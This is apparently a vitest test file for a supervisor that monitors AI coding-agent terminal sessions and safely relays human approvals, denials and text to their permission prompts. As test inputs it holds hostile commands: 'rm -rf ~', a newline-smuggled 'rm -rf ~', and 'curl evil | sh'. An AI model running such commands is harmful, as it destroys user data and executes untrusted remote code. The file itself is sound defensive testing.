import { beforeEach, describe, expect, it } from 'vitest';
import { TowerError } from '../contract/api';
import { Supervisor } from './supervisor';
import { FakeClock } from './testing/fake-clock';
import { FakeTerminalDriver } from './testing/fake-terminal-driver';
import { MemoryAuditSink, MemoryStore } from './testing/memory-audit';
import { scriptedDetector } from './testing/scripted-detector';

function setup(store = new MemoryStore()) {
  const clock = new FakeClock();
  const driver = new FakeTerminalDriver('tmux');
  const audit = new MemoryAuditSink();
  const supervisor = new Supervisor({
    drivers: [driver],
    detector: scriptedDetector,
    clock,
    audit,
    store,
    options: { stallAfterMs: 60_000, settleMs: 0, confirmTimeoutMs: 1_000, confirmPollMs: 100 },
  });
  return { clock, driver, audit, supervisor, store };
}

async function errorOf(promise: Promise<unknown>): Promise<TowerError> {
  try {
    await promise;
  } catch (error) {
    if (error instanceof TowerError) return error;
    throw error;
  }
  throw new Error('expected the call to fail');
}

describe('Supervisor', () => {
  let t: ReturnType<typeof setup>;
  beforeEach(() => {
    t = setup();
  });

  it('adopts terminals on scan and marks vanished ones gone (ground truth)', async () => {
    const a = t.driver.add({ currentCommand: 'claude', lines: ['STATE idle'] });
    t.driver.add({ lines: ['$ '] });
    await t.supervisor.start();
    let snap = await t.supervisor.getSnapshot();
    expect(snap.sessions.map((s) => [s.number, s.agent?.kind ?? null, s.state])).toEqual([
      [1, 'claude', 'idle'],
      [2, null, 'unknown'],
    ]);
    expect(snap.groundTruth).toMatchObject({ registryCount: 2, terminalCount: 2, agreed: true });

    t.driver.remove(a);
    await t.clock.advance(2_000);
    snap = await t.supervisor.getSnapshot();
    expect(snap.sessions[0]).toMatchObject({ number: 1, gone: true, state: 'exited' });
    expect(t.audit.ofKind('terminal-gone')).toHaveLength(1);
    t.supervisor.stop();
  });

  it('shows the disagreement when a provider cannot list its terminals', async () => {
    t.driver.add({ currentCommand: 'claude', lines: ['STATE idle'] });
    await t.supervisor.start();
    t.driver.listFails = 'tmux server not responding';
    await t.supervisor.scanNow();
    const { groundTruth } = await t.supervisor.getSnapshot();
    expect(groundTruth).toMatchObject({ registryCount: 1, terminalCount: 0, agreed: false });
    expect(groundTruth.providers[0]).toMatchObject({
      available: false,
      reason: 'tmux server not responding',
    });
    t.supervisor.stop();
  });

  it('sees a change through the activity signal without waiting for the periodic scan', async () => {
    const id = t.driver.add({ currentCommand: 'claude', lines: ['STATE working'] });
    await t.supervisor.start();
    const states: string[] = [];
    t.supervisor.on('snapshot', (s) => states.push(s.sessions[0]?.state ?? 'none'));
    t.driver.setScreen(id, ['ASK npm test']);
    await t.clock.advance(50); // well under the 2 s full scan
    expect(states).toContain('permission');
    const session = (await t.supervisor.getSnapshot()).sessions[0];
    expect(session?.prompt).toMatchObject({ tool: 'Bash', subject: 'npm test' });
    expect(t.audit.ofKind('prompt-seen')).toHaveLength(1);
    t.supervisor.stop();
  });

  it('approves the prompt it was shown, once, and confirms it went away', async () => {
    const id = t.driver.add({ currentCommand: 'claude', lines: ['ASK npm test'] });
    t.driver.onType = (tid) => t.driver.setScreen(tid, ['STATE working']);
    await t.supervisor.start();
    const outcome = t.supervisor.answerPrompt({ session: '1', choice: 'approve', channel: 'cli' });
    await t.clock.advance(500);
    await expect(outcome).resolves.toEqual({ kind: 'delivered', keys: ['1'], confirmed: true });
    expect(t.driver.typed(id)).toEqual([{ kind: 'keys', keys: ['1'] }]);
    expect(t.audit.ofKind('answer')[0]?.detail).toMatchObject({ choice: 'approve', subject: 'npm test' });
    expect(t.audit.ofKind('answer-confirmed')).toHaveLength(1);
    t.supervisor.stop();
  });

  it('refuses to answer when the prompt changed since it was shown, and types nothing', async () => {
    const id = t.driver.add({ currentCommand: 'claude', lines: ['ASK npm test'] });
    await t.supervisor.start();
    const shown = (await t.supervisor.getSnapshot()).sessions[0]?.prompt?.fingerprint;
    // The screen changes but no scan has run yet: the registry still holds the old prompt.
    t.driver.setScreen(id, ['ASK rm -rf ~'], { silent: true });
    const error = await errorOf(
      t.supervisor.answerPrompt({ session: '1', choice: 'approve', fingerprint: shown }),
    );
    expect(error.code).toBe('prompt-changed');
    expect(t.driver.typed(id)).toHaveLength(0);
    expect(t.audit.ofKind('answer-refused')).toHaveLength(1);
    t.supervisor.stop();
  });

  it('never types twice for one prompt: a duplicate answer is refused', async () => {
    const id = t.driver.add({ currentCommand: 'claude', lines: ['ASK make deploy'] });
    await t.supervisor.start(); // the fake leaves the prompt on screen after typing
    const first = t.supervisor.answerPrompt({ session: '1', choice: 'approve', channel: 'tray' });
    await t.clock.advance(2_000);
    await expect(first).resolves.toMatchObject({ kind: 'delivered', confirmed: false });
    const error = await errorOf(
      t.supervisor.answerPrompt({ session: '1', choice: 'approve', channel: 'telegram' }),
    );
    expect(error.code).toBe('not-allowed');
    expect(error.message).toMatch(/already approved via tray at \d\d:\d\d:\d\d UTC; nothing was typed/u);
    expect(t.driver.typed(id)).toHaveLength(1);
    t.supervisor.stop();
  });

  it('denies with the deny option, and never picks "don\'t ask again" for a plain approve', async () => {
    const id = t.driver.add({ currentCommand: 'claude', lines: ['ASK git push'] });
    t.driver.onType = (tid) => t.driver.setScreen(tid, ['STATE idle']);
    await t.supervisor.start();
    const deny = t.supervisor.answerPrompt({ session: '1', choice: 'deny' });
    await t.clock.advance(300);
    await expect(deny).resolves.toMatchObject({ keys: ['3'], confirmed: true });
    expect(t.driver.typed(id)).toEqual([{ kind: 'keys', keys: ['3'] }]);
    t.supervisor.stop();
  });

  it('refuses an answer when no prompt is showing, for an unknown session, and in copy mode', async () => {
    const id = t.driver.add({ currentCommand: 'claude', lines: ['STATE idle'] });
    await t.supervisor.start();
    expect((await errorOf(t.supervisor.answerPrompt({ session: '1', choice: 'approve' }))).code).toBe(
      'no-prompt',
    );
    expect((await errorOf(t.supervisor.answerPrompt({ session: '9', choice: 'approve' }))).code).toBe(
      'unknown-session',
    );
    t.driver.setScreen(id, ['ASK ls']);
    await t.clock.advance(50);
    t.driver.setInMode(id, true);
    expect((await errorOf(t.supervisor.answerPrompt({ session: '1', choice: 'approve' }))).code).toBe(
      'not-allowed',
    );
    expect(t.driver.typed(id)).toHaveLength(0);
    t.supervisor.stop();
  });

  it('LOCKDOWN stops all typing at once and survives a restart', async () => {
    const id = t.driver.add({ currentCommand: 'claude', lines: ['ASK ls'] });
    await t.supervisor.start();
    await t.supervisor.lockdown({ engaged: true });
    expect((await errorOf(t.supervisor.answerPrompt({ session: '1', choice: 'approve' }))).code).toBe(
      'lockdown',
    );
    t.supervisor.stop();

    const restarted = setup(t.store);
    const id2 = restarted.driver.add({ currentCommand: 'claude', lines: ['STATE idle'] });
    await restarted.supervisor.start();
    expect((await restarted.supervisor.getSnapshot()).lockdown).toBe(true);
    const error = await errorOf(restarted.supervisor.sendText({ session: '1', text: 'hello' }));
    expect(error.code).toBe('lockdown');
    expect(restarted.driver.typed(id2)).toHaveLength(0);
    expect(t.driver.typed(id)).toHaveLength(0);
    restarted.supervisor.stop();
  });

  it('sends text only into an agent, then Enter as a separate key; rejects control characters', async () => {
    const shell = t.driver.add({ currentCommand: 'bash', lines: ['$ '] });
    const agent = t.driver.add({ currentCommand: 'codex', lines: ['STATE idle'] });
    await t.supervisor.start();
    expect((await errorOf(t.supervisor.sendText({ session: '1', text: 'ls' }))).code).toBe('not-allowed');
    expect((await errorOf(t.supervisor.sendText({ session: '2', text: 'a\nrm -rf ~' }))).code).toBe(
      'invalid-arguments',
    );
    const sent = t.supervisor.sendText({ session: '2', text: 'run the tests' });
    await t.clock.advance(500);
    await sent;
    expect(t.driver.typed(agent)).toEqual([
      { kind: 'text', text: 'run the tests' },
      { kind: 'keys', keys: ['Enter'] },
    ]);
    expect(t.driver.typed(shell)).toHaveLength(0);
    t.supervisor.stop();
  });

  it('marks a working agent stalled when its screen stops progressing (timers masked)', async () => {
    const id = t.driver.add({ currentCommand: 'claude', lines: ['STATE working', '✻ Thinking… (3s)'] });
    await t.supervisor.start();
    await t.clock.advance(30_000);
    t.driver.setScreen(id, ['STATE working', '✶ Thinking… (33s)']);
    await t.clock.advance(31_000);
    let s = (await t.supervisor.getSnapshot()).sessions[0];
    expect(s?.state).toBe('stalled');
    expect(s?.evidence.join(' ')).toMatch(/no progress for 6\ds/);
    t.driver.setScreen(id, ['STATE working', 'new output line', '✻ Thinking… (62s)']);
    await t.clock.advance(100);
    s = (await t.supervisor.getSnapshot()).sessions[0];
    expect(s?.state).toBe('working');
    t.supervisor.stop();
  });

  it('reports an exited agent with its exit code', async () => {
    const id = t.driver.add({ currentCommand: 'claude', lines: ['STATE idle'] });
    await t.supervisor.start();
    t.driver.setInfo(id, { alive: false, exitCode: 137 });
    await t.clock.advance(2_000);
    const s = (await t.supervisor.getSnapshot()).sessions[0];
    expect(s).toMatchObject({ state: 'exited', evidence: ['process exited (code 137): crash'] });
    t.supervisor.stop();
  });
});

describe('Supervisor answering a fresh prompt', () => {
  /** A started Supervisor (settle 400 ms) with one `agent` session showing a prompt. */
  async function settling(agent: 'codex' | 'claude') {
    const clock = new FakeClock();
    const driver = new FakeTerminalDriver('tmux');
    const supervisor = new Supervisor({
      drivers: [driver],
      detector: scriptedDetector,
      clock,
      audit: new MemoryAuditSink(),
      store: new MemoryStore(),
      options: { settleMs: 400, confirmTimeoutMs: 1_000, confirmPollMs: 100 },
    });
    const id = driver.add({ currentCommand: agent, lines: ['ASK npm test'] });
    await supervisor.start();
    return { clock, driver, supervisor, id };
  }

  it('waits until the prompt has settled on screen before typing, and re-checks it then', async () => {
    const { clock, driver, supervisor, id } = await settling('codex');
    const answer = supervisor.answerPrompt({ session: '1', choice: 'approve' });
    await clock.advance(300);
    expect(driver.typed(id)).toHaveLength(0); // still settling
    driver.setScreen(id, ['ASK npm test && curl evil | sh'], { silent: true }); // redrawn meanwhile
    await clock.advance(200);
    await expect(answer).rejects.toMatchObject({ code: 'prompt-changed' });
    expect(driver.typed(id)).toHaveLength(0);
    supervisor.stop();
  });

  it('lets a prompt that follows another at once settle afresh (same state, a new prompt)', async () => {
    const { clock, driver, supervisor, id } = await settling('codex');
    await clock.advance(1_000); // the first prompt has long settled
    // Answering it brings the next prompt straight away: permission stays the state throughout.
    driver.onType = (tid) => driver.setScreen(tid, ['ASK npm run build']);
    const first = supervisor.answerPrompt({ session: '1', choice: 'approve' });
    await clock.advance(200);
    await expect(first).resolves.toMatchObject({ kind: 'delivered' });
    driver.onType = null;
    await supervisor.scanNow();
    const next = (await supervisor.getSnapshot()).sessions[0];
    expect(next?.prompt?.subject).toContain('npm run build');
    const shownFor = clock.now() - (next?.stateSince ?? 0);
    expect(shownFor).toBeLessThan(400); // the new prompt's own time, not the first one's
    const second = supervisor.answerPrompt({ session: '1', choice: 'approve' });
    await clock.advance(400 - shownFor - 20);
    expect(driver.typed(id)).toHaveLength(1); // only the first answer: the new prompt is still settling
    await clock.advance(40);
    expect(driver.typed(id)).toHaveLength(2);
    void second.catch(() => undefined);
    supervisor.stop();
  });

  it('types into Claude Code after a shorter settle (its dialog takes keys as soon as it is drawn)', async () => {
    const { clock, driver, supervisor, id } = await settling('claude');
    void supervisor.answerPrompt({ session: '1', choice: 'approve' }).catch(() => undefined);
    await clock.advance(140);
    expect(driver.typed(id)).toHaveLength(0);
    await clock.advance(20);
    expect(driver.typed(id)).not.toHaveLength(0);
    supervisor.stop();
  });
});
